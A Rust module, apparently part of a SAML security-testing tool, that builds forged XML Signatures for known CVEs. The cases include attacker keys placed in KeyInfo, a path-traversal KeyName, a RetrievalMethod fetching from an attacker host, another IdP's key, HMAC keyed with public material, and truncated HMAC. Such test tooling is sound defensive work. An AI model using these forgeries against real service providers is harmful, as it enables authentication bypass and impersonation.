//! Attacks on which key is believed: the message's own, another IdP's, or the public key used as a secret.

use super::tools::sign_forgery;
use super::{Attack, FORGERY};
use crate::algorithm::SignatureAlgorithm;
use crate::base64;
use crate::canonical::Method;
use crate::encrypt::certificate_part;
use crate::idp;
use crate::key;
use crate::recipe::RecipeError;
use crate::sign::{Plan, Signer};
use crate::step::Step;
use crate::tree::Element;
use crate::vendor::Vendor;
use crate::workshop::Workshop;

/// Signed with the attacker's key, with these clues to it in KeyInfo.
fn forge_with(workshop: &mut Workshop<'_>, clues: Vec<Element>) -> Result<(), RecipeError> {
    let plan = Plan { key_info: Some(clues), ..workshop.attacker_plan(Vec::new()) };
    sign_forgery(workshop, plan)
}

/// The attacker's key as XML Signature writes it.
fn key_value(workshop: &Workshop<'_>) -> Result<Element, RecipeError> {
    let (modulus, exponent) = key::attacker().rsa_numbers().ok_or(RecipeError::Missing("RSA key"))?;
    let part = |local: &str, octets: &[u8]| workshop.ds(local).saying(base64::encode(octets));
    let numbers = workshop.ds("RSAKeyValue").holding(part("Modulus", &modulus)).holding(part("Exponent", &exponent));
    Ok(workshop.ds("KeyValue").holding(numbers))
}

fn certificate(workshop: &Workshop<'_>, der: &[u8]) -> Element {
    workshop.ds("X509Data").holding(workshop.ds("X509Certificate").saying(base64::encode(der)))
}

/// The SubjectPublicKeyInfo of a certificate.
fn public_key(certificate: &[u8]) -> Option<Vec<u8>> {
    certificate_part(certificate, 6)
}

fn genuine_certificate(workshop: &Workshop<'_>) -> Element {
    certificate(workshop, workshop.recipe.idp.certificate_der())
}

fn attacker_certificate(workshop: &Workshop<'_>) -> Vec<u8> {
    idp::issue(&workshop.recipe.vendor.shape().certificate, &key::attacker())
}

pub(super) const KEY_VALUE: Attack = Attack {
    id: "attacker_key_value",
    about: "Signed with the attacker's key, which KeyInfo holds as a bare RSAKeyValue.",
    source: "KEY-02; CVE-2021-21239",
    steps: &[Step::Signed(|workshop| {
        let clue = key_value(workshop)?;
        forge_with(workshop, vec![clue])
    })],
    ..FORGERY
};

pub(super) const DER_ENCODED_KEY_VALUE: Attack = Attack {
    id: "der_encoded_key_value",
    about: "Signed with the attacker's key, which KeyInfo holds as a DEREncodedKeyValue.",
    source: "KEY-02; CVE-2021-21239; XML Signature 1.1, 4.5.9",
    steps: &[Step::Signed(der_encoded_key_value)],
    ..FORGERY
};

fn der_encoded_key_value(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let key = public_key(&attacker_certificate(workshop)).ok_or(RecipeError::Missing("public key"))?;
    let clue = Element::new("dsig11:DEREncodedKeyValue")
        .with("xmlns:dsig11", "http://www.w3.org/2009/xmldsig11#")
        .saying(base64::encode(&key));
    forge_with(workshop, vec![clue])
}

pub(super) const KEY_NAME: Attack = Attack {
    id: "key_name",
    about: "Signed with the attacker's key, under a KeyName that an SP might look up as a file.",
    source: "KEY-02; CVE-2021-21239",
    steps: &[Step::Signed(|workshop| {
        let clue = workshop.ds("KeyName").saying("../../../../tmp/attacker.pem");
        forge_with(workshop, vec![clue])
    })],
    ..FORGERY
};

pub(super) const KEY_VALUE_BEFORE_CERTIFICATE: Attack = Attack {
    id: "key_value_before_certificate",
    about: "KeyInfo holds the attacker's key, then the genuine certificate: one decides whether it verifies, the other whether it is trusted.",
    source: "KEY-03; CVE-2019-1006",
    steps: &[Step::Signed(|workshop| {
        let clues = vec![key_value(workshop)?, genuine_certificate(workshop)];
        forge_with(workshop, clues)
    })],
    ..FORGERY
};

pub(super) const KEY_VALUE_BEHIND_CERTIFICATE: Attack = Attack {
    id: "key_value_behind_certificate",
    about: "KeyInfo holds the genuine certificate, then the attacker's key, which made the signature.",
    source: "KEY-03; CVE-2019-1006",
    steps: &[Step::Signed(|workshop| {
        let clues = vec![genuine_certificate(workshop), key_value(workshop)?];
        forge_with(workshop, clues)
    })],
    ..FORGERY
};

pub(super) const CERTIFICATE_BEFORE_GENUINE: Attack = Attack {
    id: "certificate_before_genuine",
    about: "KeyInfo holds the attacker's look-alike certificate, then the genuine one.",
    source: "KEY-03; KEY-01; CVE-2024-32962",
    steps: &[Step::Signed(|workshop| {
        let genuine = workshop.recipe.idp.certificate_der().to_vec();
        let plan = workshop.attacker_plan(vec![attacker_certificate(workshop), genuine]);
        sign_forgery(workshop, plan)
    })],
    ..FORGERY
};

pub(super) const RETRIEVAL_METHOD: Attack = Attack {
    id: "retrieval_method",
    about: "Signed with the attacker's key, whose certificate an SP would have to fetch from a URL in KeyInfo.",
    source: "KEY-04; CVE-2023-36661",
    steps: &[Step::Signed(|workshop| {
        let clue = workshop.ds("RetrievalMethod").with("URI", "https://attacker.test/certificate.cer");
        forge_with(workshop, vec![clue])
    })],
    ..FORGERY
};

pub(super) const RETRIEVAL_LOOP: Attack = Attack {
    id: "retrieval_loop",
    about: "Signed with the attacker's key; KeyInfo holds a RetrievalMethod that leads back to the document it stands in.",
    source: "KEY-04; CVE-2021-40690",
    steps: &[Step::Signed(|workshop| {
        let clue = workshop.ds("RetrievalMethod").with("URI", "");
        forge_with(workshop, vec![clue])
    })],
    ..FORGERY
};

pub(super) const OTHER_KEY_WITHOUT_CLUE: Attack = Attack {
    id: "other_key_without_clue",
    about: "Signed with the attacker's key, and there is no KeyInfo that could tell.",
    source: "SIG-13; KEY-01",
    steps: &[Step::Signed(|workshop| {
        let plan = workshop.attacker_plan(Vec::new());
        sign_forgery(workshop, plan)
    })],
    ..FORGERY
};

pub(super) const OTHER_IDP_KEY: Attack = Attack {
    id: "other_idp_key",
    about: "Signed with the key of another IdP, which the SP may well trust, in the name of this one.",
    source: "KEY-15; PRO-21; CVE-2023-41890",
    steps: &[Step::Signed(other_idp_key)],
    ..FORGERY
};

fn other_idp_key(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let known = workshop.recipe.idp.certificate_der();
    let mut others = Vendor::all().map(|vendor| idp::Idp::of(vendor, "https://other-idp.test"));
    let other = others.find(|other| other.certificate_der() != known).ok_or(RecipeError::Missing("another IdP"))?;
    let plan = Plan {
        signer: Signer::Key(other.key().clone()),
        algorithm: SignatureAlgorithm::RsaSha256,
        digest: SignatureAlgorithm::RsaSha256.digest(),
        certificates: vec![other.certificate_der().to_vec()],
        ..workshop.plan.clone()
    };
    sign_forgery(workshop, plan)
}

/// Signed by HMAC with something public as the secret.
fn forge_by_hmac(workshop: &mut Workshop<'_>, secret: Vec<u8>) -> Result<(), RecipeError> {
    let plan = Plan { signer: Signer::Hmac(secret), ..workshop.plan.clone() };
    sign_forgery(workshop, plan)
}

pub(super) const HMAC_WITH_CERTIFICATE: Attack = Attack {
    id: "hmac_with_certificate",
    about: "HMAC-SHA256 whose secret is the IdP's public certificate; names the attacker.",
    source: "KEY-05; CVE-2025-48994",
    // Libraries that fall for it hand the configured PEM text to the MAC.
    steps: &[Step::Signed(|workshop| forge_by_hmac(workshop, workshop.recipe.idp.certificate_pem().into_bytes()))],
    ..FORGERY
};

pub(super) const HMAC_WITH_PUBLIC_KEY: Attack = Attack {
    id: "hmac_with_public_key",
    about: "HMAC-SHA256 whose secret is the IdP's public key in DER; names the attacker.",
    source: "KEY-05; CVE-2025-48994; xmlseclibs GHSA-m5mw-mr39-66vp",
    steps: &[Step::Signed(hmac_with_public_key)],
    ..FORGERY
};

fn hmac_with_public_key(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let key = public_key(workshop.recipe.idp.certificate_der());
    forge_by_hmac(workshop, key.ok_or(RecipeError::Missing("public key"))?)
}

pub(super) const HMAC_WITH_EMPTY_KEY: Attack = Attack {
    id: "hmac_with_empty_key",
    about: "HMAC-SHA256 with an empty secret; names the attacker.",
    source: "KEY-05; pysaml2's signed-with-hmac fixtures",
    steps: &[Step::Signed(|workshop| forge_by_hmac(workshop, Vec::new()))],
    ..FORGERY
};

pub(super) const HMAC_CUT_SHORT: Attack = Attack {
    id: "hmac_cut_short",
    about: "HMAC-SHA256 of which HMACOutputLength leaves one octet to be compared, and that one is guessed.",
    source: "KEY-06; CVE-2009-0217",
    steps: &[Step::Signed(hmac_cut_short)],
    ..FORGERY
};

fn hmac_cut_short(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let plan = Plan {
        signer: Signer::Value(vec![0]),
        method_uri: Some("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256".to_owned()),
        method_holds: Some(workshop.ds("HMACOutputLength").saying("8")),
        canonicalization: Method::exclusive(),
        ..workshop.plan.clone()
    };
    sign_forgery(workshop, plan)
}
